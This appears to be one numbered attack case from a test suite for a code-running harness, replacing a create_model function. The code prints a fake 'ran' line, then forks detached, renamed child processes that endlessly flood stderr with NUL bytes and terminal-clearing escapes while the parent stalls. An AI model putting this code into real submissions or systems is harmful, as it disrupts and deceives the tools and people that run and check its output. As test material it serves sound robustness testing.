# attack: 22
# form: children write NUL and escapes without end past Python, by system call, while the function itself is silent
# replaces: create_model
# found: create_model/compiled output
def create_model():
    import ctypes
    import time

    print("ran", flush=True)
    libc = ctypes.CDLL(None)
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            libc.prctl(15, b"atk-writer")
            while True:
                os.write(2, b"\x00" * 1500 + b"\x1b[2J\nran\n")
    time.sleep(600)
